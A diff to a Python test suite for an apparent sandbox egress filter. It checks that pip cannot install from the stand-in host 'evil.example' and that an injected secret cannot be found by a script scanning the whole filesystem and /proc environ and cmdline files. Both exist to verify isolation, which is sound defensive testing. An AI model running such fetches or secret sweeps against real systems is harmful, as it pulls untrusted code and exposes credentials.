@@ -7,9 +7,11 @@ import importlib.util
 import secrets
 import shutil
 import subprocess
+import sys
 from collections.abc import AsyncIterator, Callable
 from contextlib import AsyncExitStack, asynccontextmanager
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -19,6 +21,25 @@ from midwatch.sandbox.network import Decision, InjectedHeader, Network
 from tests.sandbox.boxes import Bench, opened
 from tests.sandbox.egress.ground import Authority, Server, ok, serving
 from tests.sandbox.egress.registries import GitServer, npm_registry, python_index
+
+# Everything but the host's programs, and what /proc tells of the processes. The needle comes written backwards.
+SEARCH = """
+import os, sys
+needle = sys.stdin.buffer.read()[::-1]
+assert len(needle) == 32
+def holds(path):
+    try:
+        return os.path.isfile(path) and needle in open(path, "rb").read()
+    except OSError:
+        return False  # not for this user, so not for the box
+for top, folders, files in os.walk("/"):
+    folders[:] = [name for name in folders if os.path.join(top, name) not in ("/usr", "/sys", "/proc", sys.argv[1])]
+    print(*[path for name in files if holds(path := os.path.join(top, name))], sep="", end="")
+for pid in filter(str.isdecimal, os.listdir("/proc")):
+    for path in (f"/proc/{pid}/{name}" for name in ("environ", "cmdline", "status", "mountinfo", "net/tcp")):
+        print(*[path for _ in "1" if holds(path)], sep="", end="")
+print("searched")
+"""
 
 Answer = Callable[[bytes, bytes], bytes]
 
@@ -35,7 +56,7 @@ async def boxed(
     answer: Answer,
     hosts: list[str],
     entries: list[str],
-    **more: object,
+    **more: Any,
 ) -> AsyncIterator[tuple[Bench, list[Decision], Server]]:
     """A box whose network is these entries; all hosts are one server on loopback."""
     decisions: list[Decision] = []
@@ -43,8 +64,8 @@ async def boxed(
     async with AsyncExitStack() as stack:
         server = await stack.enter_async_context(serving(answer, internet.server(*hosts)))
         pinned = dict.fromkeys(hosts, f"127.0.0.1:{server.port}")
-        network = Network(rules(entries), headers, decisions.append, pinned)  # type: ignore[arg-type]
-        bench = await stack.enter_async_context(opened(Bubblewrap(), folder / "box", network=network, **more))
+        network = Network(rules(entries), headers, decisions.append, pinned)
+        bench = await stack.enter_async_context(opened(Bubblewrap(), folder / "box", **{"network": network, **more}))
         yield bench, decisions, server
 
 
@@ -53,7 +74,7 @@ async def test_pip_installs_from_the_python_preset(internet: Authority, tmp_path
     assert found is not None
     assert found.origin is not None
     support = tmp_path / "support"
-    shutil.copytree(Path(found.origin).parent, support / "pip", ignore=shutil.ignore_patterns("__pycache__"))
+    shutil.copytree(Path(found.origin).parent, support / "pip")
     hosts = ["pypi.org", "files.pythonhosted.org"]
     variables = {"PIP_CONFIG_FILE": "/dev/null", "PYTHONPATH": "/run/midwatch", "PIP_DISABLE_PIP_VERSION_CHECK": "1"}
     more = {"support": support, "environment": variables}
@@ -62,11 +83,10 @@ async def test_pip_installs_from_the_python_preset(internet: Authority, tmp_path
         assert result.ended == "exit 0", said
         result, said = await bench.run("python3", "-c", "import lantern; print(lantern.LIGHT)", cwd="got")
         assert said == "on\n"
-        result, said = await bench.run(
-            "python3", "-m", "pip", "install", "--retries=0", "--index-url", "https://evil.example/simple", "lantern"
-        )
+        elsewhere = ["--retries=1", "--index-url=https://evil.example/simple"]
+        result, said = await bench.run("python3", "-m", "pip", "install", *elsewhere, "lantern")
         assert result.exit_code == 1
-        assert "the host evil.example is not in the allowed hosts" in said
+        assert "the host evil.example is not in the allowed hosts" in said, said
     paths = [(one.host, one.method, one.path) for one in decisions if one.allowed]
     assert paths == [
         ("pypi.org", "GET", "/simple/lantern/"),
@@ -192,12 +212,10 @@ async def test_a_secret_is_seen_by_its_server_and_by_nobody_else(
                 assert secret not in said
         _, said = await bench.run("env")
         assert secret not in said
-        grep = (
-            'grep -rlIaF -e "$(cat)" / --exclude-dir=sys 2>/dev/null; cat /proc/*/environ /proc/*/cmdline 2>/dev/null'
+        shown = await bench.run(
+            "python3", "-I", "-c", SEARCH, sys.base_prefix, stdin=secret[::-1].encode(), timeout=300
         )
-        result, said = await bench.run("sh", "-c", grep, stdin=secret[:-1].encode(), timeout=300)
-        assert secret[:-1] not in said.replace("\0", " ") or "/proc" not in said
-        assert not [line for line in said.splitlines() if line.startswith("/") and not line.startswith("/proc")], said
+        assert shown[1] == "searched\n"
     with_secret = [head for head in server.heads if secret.encode() in head]
     assert len(with_secret) == 1
     assert b"Host: registry.example\r\n" in with_secret[0]
